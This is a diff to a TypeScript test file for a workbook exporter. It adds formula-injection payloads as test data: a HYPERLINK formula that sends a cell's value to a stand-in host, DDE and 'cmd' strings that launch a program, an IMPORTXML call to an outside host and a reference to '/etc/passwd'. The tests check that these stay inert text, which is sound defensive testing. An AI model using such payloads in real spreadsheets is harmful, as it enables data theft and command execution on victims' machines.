@@ -1,6 +1,7 @@
 import ExcelJS from 'exceljs';
 import { STATEMENT_LANGUAGES, type FormPart } from '@firebreak/statements/model';
 import { aRendering } from '../a-rendering.fixture';
+import { HOSTILE_STRINGS } from '../pdf/hostile-strings.fixture';
 import type { EvidenceRows } from './evidence-rows';
 import { renderStatementWorkbook } from './render-statement-workbook';
 
@@ -127,6 +128,17 @@ function aDecision(changes: Partial<EvidenceRows['decisions'][number]>): Evidenc
 function aPart(changes: Partial<FormPart>): FormPart {
   return { id: '', kind: 'text', options: [], maxLength: null, fromData: null, typed: null, ...changes };
 }
+
+/** What a spreadsheet would run, behind what makes it a formula. */
+const FORMULAS = ['=', '+', '-', '@', '\t=', '\r\n='].flatMap((start) =>
+  [
+    'HYPERLINK("http://x.example/?"&A1,"x")',
+    "cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    'IMPORTXML("http://x.example","//a")',
+    "'file:///etc/passwd'#$Sheet1.A1",
+  ].map((formula) => start + formula),
+);
 
 async function workbookOf(...input: Parameters<typeof renderStatementWorkbook>): Promise<Buffer> {
   const chunks: Buffer[] = [];
@@ -293,6 +305,49 @@ describe('renderStatementWorkbook', () => {
       '@SUM(A1)',
       '@late',
     ]);
+  });
+
+  it('holds 230 hostile strings as texts in every sheet, and links to nothing outside', async () => {
+    const hostile = [...HOSTILE_STRINGS, ...FORMULAS];
+    const { actions, decisions, forms } = someRows();
+    const field = forms[0]!.fields[0]!;
+    const rows: EvidenceRows = {
+      ...someRows(),
+      suppliers: hostile.map((name, index) => aSupplier({ id: String(index), name })),
+      actions: hostile.map((description) => ({ ...actions[0]!, description, owner: description })),
+      decisions: hostile.map((reason) => ({ ...decisions[0]!, subject: reason, reason, evidence: reason })),
+      forms: [
+        {
+          ...forms[0]!,
+          fields: hostile.map((text) => ({
+            ...field,
+            title: text,
+            parts: [aPart({ id: text, typed: { text, chosen: [text] } })],
+          })),
+        },
+      ],
+      lawNames: Object.fromEntries([['uk-msa-s54', hostile[0]!]]),
+    };
+    const bytes = await workbookOf(aRendering(), rows);
+    const workbook = await read(bytes);
+    const formulas = workbook.worksheets.flatMap((sheet) =>
+      (sheet.getSheetValues() as unknown[][])
+        .flat()
+        .filter((value) => typeof value === 'object' && value !== null),
+    );
+    expect(formulas).toEqual([]);
+    expect(workbook.getWorksheet('Forms')?.rowCount).toBe(hostile.length + 1);
+    expect(workbook.getWorksheet('Decisions')?.rowCount).toBe(hostile.length + 1);
+    expect(bytes.includes('TargetMode="External"')).toBe(false);
+  });
+
+  it('makes a row as high as its longest text needs, and no higher than Excel can', async () => {
+    const [action] = someRows().actions;
+    const long = (description: string) => ({ ...action!, description });
+    const rows = { ...someRows(), actions: [long('x'.repeat(150)), long('a\nb'), long('x'.repeat(9000))] };
+    const sheet = (await read(await workbookOf(aRendering(), rows))).getWorksheet('Corrective actions')!;
+    // 60 characters wide: 57 a line.
+    expect([1, 2, 3, 4].map((row) => sheet.getRow(row).height)).toEqual([15, 45, 30, 409]);
   });
 
   it('keeps signs that mean something in XML, and drops those that it forbids', async () => {
